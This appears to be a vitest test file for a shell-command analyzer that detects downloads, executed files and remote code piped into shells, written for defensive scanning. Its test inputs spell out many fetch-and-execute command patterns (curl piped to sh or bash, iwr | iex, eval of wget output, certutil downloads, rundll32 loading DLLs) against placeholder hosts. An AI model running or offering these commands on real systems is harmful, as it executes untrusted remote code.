// The one reading of download and run commands both front-ends share.
import { describe, expect, it } from "vitest";
import { downloadsOf, pipedRunsOf, runsOf, scriptFilesOf } from "../../../src/analyzers/common/shell-downloads.js";
import { parseShell } from "../../../src/analyzers/shell-words.js";

const downloads = (line: string) => parseShell(line).flatMap(downloadsOf).map((d) => `${d.url} > ${d.file}`);
// The program itself is always a candidate (matched later against the files written); shown here only when written as a path.
const runs = (line: string) =>
  parseShell(line)
    .flatMap(runsOf)
    .filter((r) => r.how !== `runs ${r.file}` || /[/\\.]/.test(r.file))
    .map((r) => `${r.how}: ${r.file}`);

describe("shell downloads and runs", () => {
  it("names the file a downloader writes", () => {
    expect(downloads("curl -s -H 'A: b' http://h.example.invalid/a -o out/a.bin")).toEqual(["http://h.example.invalid/a > out/a.bin"]);
    expect(downloads("curl -sLO https://h.example.invalid/d/tool.tgz")).toEqual(["https://h.example.invalid/d/tool.tgz > tool.tgz"]);
    expect(downloads("curl https://h.example.invalid/x > /tmp/x")).toEqual(["https://h.example.invalid/x > /tmp/x"]);
    expect(downloads("wget -q -P /opt https://h.example.invalid/p/y")).toEqual(["https://h.example.invalid/p/y > /opt/y"]);
    expect(downloads("wget -O - https://h.example.invalid/i.sh")).toEqual([]);
    expect(downloads("certutil -urlcache -split -f http://198.51.100.1/a.dll c.dll")).toEqual(["http://198.51.100.1/a.dll > c.dll"]);
    expect(downloads("curl -s https://h.example.invalid/ping")).toEqual([]);
  });

  it("names the file a command runs, not the command line a shell is given", () => {
    expect(runs("./bin/tool --version")).toEqual(["runs ./bin/tool: ./bin/tool"]);
    expect(runs("rundll32 x.dll,Start")).toEqual(["rundll32: x.dll"]);
    expect(runs("regsvr32.exe /s c.dll")).toEqual(["runs regsvr32.exe: regsvr32.exe", "regsvr32: c.dll"]);
    expect(runs("cmd /c setup.cmd")).toEqual(["cmd /c: setup.cmd"]);
    expect(parseShell("shell.py --x").flatMap(runsOf)).toEqual([{ file: "shell.py", how: "runs shell.py" }]);
    expect(runs("python3 -m pip install x")).toEqual([]);
    expect(runs("sh -c 'echo hi'")).toEqual([]);
    expect(runs("chmod +x a && node a.js")).toEqual(["node: a.js"]);
    expect(scriptFilesOf(parseShell("bash ./scripts/x.sh && setup.bat && node i.js"))).toEqual(["./scripts/x.sh", "setup.bat"]);
  });

  it("takes a bare program name for one found on PATH, not a downloaded file, unless it names a script or a Windows program", () => {
    expect(parseShell("install -m755 a /usr/local/bin/a").flatMap(runsOf)).toEqual([]);
    expect(parseShell("jsextension.exe -k").flatMap(runsOf)).toEqual([{ file: "jsextension.exe", how: "runs jsextension.exe" }]);
  });

  it("cuts a run file at its first comma and a URL's name at its first ? or #, across line breaks", () => {
    expect(runs("rundll32 'x.dll,a\nb,c'")).toEqual(["rundll32: x.dll"]);
    expect(downloads("curl -O 'https://h.example.invalid/d/t.tgz?a\nb?c'")).toEqual(["https://h.example.invalid/d/t.tgz?a\nb?c > t.tgz"]);
  });

  it("sees fetched code run without a file: piped into a shell or interpreter, or a substitution that is run", () => {
    const piped = (line: string) => parseShell(line).flatMap(pipedRunsOf).map((p) => `${p.how}: ${p.url}`);
    expect(piped("curl -fsSL https://h.example.invalid/i.sh | sh")).toEqual(["curl | sh: https://h.example.invalid/i.sh"]);
    expect(piped("curl -s https://h.example.invalid/i.sh | sudo bash -s -- --yes")).toEqual(["curl | bash: https://h.example.invalid/i.sh"]);
    expect(piped("curl https://h.example.invalid/i | sh -e")).toEqual(["curl | sh: https://h.example.invalid/i"]);
    expect(piped("wget -qO- https://h.example.invalid/i | python3 -")).toEqual(["wget | python3: https://h.example.invalid/i"]);
    expect(piped("curl -s https://h.example.invalid/b | base64 -d | gunzip | node")).toEqual(["curl | … | node: https://h.example.invalid/b"]);
    expect(piped("(curl -s https://h.example.invalid/i) | sh")).toEqual(["curl | sh: https://h.example.invalid/i"]);
    expect(piped("iwr https://h.example.invalid/a.ps1 | iex")).toEqual(["iwr | iex: https://h.example.invalid/a.ps1"]);
    expect(piped('eval "$(wget -qO- https://h.example.invalid/e)"')).toEqual(['"$(wget …)" run as a command: https://h.example.invalid/e']);
    expect(piped('bash -c "$(curl -fsSL https://h.example.invalid/i)"')).toEqual(['bash -c "$(curl …)": https://h.example.invalid/i']);
    // Printed, given as a here-string, or as the script file (process substitution).
    expect(piped('echo "$(curl -fsSL https://h.example.invalid/e)" | bash')).toEqual(["curl | … | bash: https://h.example.invalid/e"]);
    expect(piped("printf '%s' \"$(wget -qO- https://h.example.invalid/p)\" | sh -s")).toEqual(["wget | … | sh: https://h.example.invalid/p"]);
    expect(piped('bash <<< "$(curl -s https://h.example.invalid/h)"')).toEqual(["curl | bash: https://h.example.invalid/h"]);
    expect(piped("bash <(curl -s https://h.example.invalid/f)")).toEqual(["bash <(curl …): https://h.example.invalid/f"]);
    expect(piped("source <(wget -qO- https://h.example.invalid/s) && node i.js")).toEqual(["source <(wget …): https://h.example.invalid/s"]);
    // Not fetched code: data for a script, an archive, a file written, a local script, another command's output.
    expect(piped('echo "$(curl -s https://h.example.invalid/v)" > version.txt')).toEqual([]);
    expect(piped('echo "v=$(curl -s https://h.example.invalid/v)" | sh')).toEqual([]);
    expect(piped("diff <(curl -s https://h.example.invalid/a) local.txt")).toEqual([]);
    expect(piped('bash "$(curl -s https://h.example.invalid/path-name)"')).toEqual([]);
    expect(piped("bash ./setup.sh <(curl -s https://h.example.invalid/d)")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/m.json | node scripts/merge.js")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/m.json | python3 -c 'import sys'")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/t.tgz | tar -xz -C bin")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/l.txt | perl -ne 'print if /v/'")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/i.ps1 | powershell -NoProfile -")).toEqual(["curl | powershell: https://h.example.invalid/i.ps1"]);
    expect(piped("curl -s https://h.example.invalid/i -o i.sh | sh")).toEqual([]);
    expect(piped("wget -O i.sh https://h.example.invalid/i | sh")).toEqual([]);
    expect(piped("cat install.sh | sh")).toEqual([]);
    expect(piped("curl https://h.example.invalid/i | sh install.sh")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/v > v.txt; echo done | sh")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/i || sh fallback.sh")).toEqual([]);
    expect(piped("curl -s https://h.example.invalid/i; sh")).toEqual([]);
  });
});
